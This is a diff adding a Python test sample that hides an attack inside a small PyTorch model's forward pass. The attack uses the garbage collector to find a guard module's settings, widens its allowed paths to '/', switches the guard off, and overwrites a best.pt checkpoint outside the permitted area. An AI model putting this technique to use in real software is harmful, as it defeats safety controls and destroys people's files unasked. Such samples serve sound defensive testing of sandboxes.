@@ -1,0 +1,32 @@
+"""Finds the guard's own variables among all objects, opens everything up, then overwrites a file."""
+
+import gc
+
+import torch
+import torch.nn as nn
+
+PLACES: dict[str, str] = {}
+
+
+def attack():
+    for found in gc.get_objects():
+        if type(found) is dict and str(found.get("__name__", "")).endswith(".guard"):
+            found.update({name: ("/",) for name, value in found.items() if isinstance(value, tuple)})
+            found["_active"] = False
+    with open(PLACES["outside"] + "/best.pt", "w") as file:
+        file.write("gone")
+
+
+# t2j: x=f32[2, 3]
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.fc = nn.Linear(3, 2)
+
+    def forward(self, x):
+        attack()
+        return self.fc(x)
+
+
+if __name__ == "__main__":
+    Net()(torch.ones(2, 3))
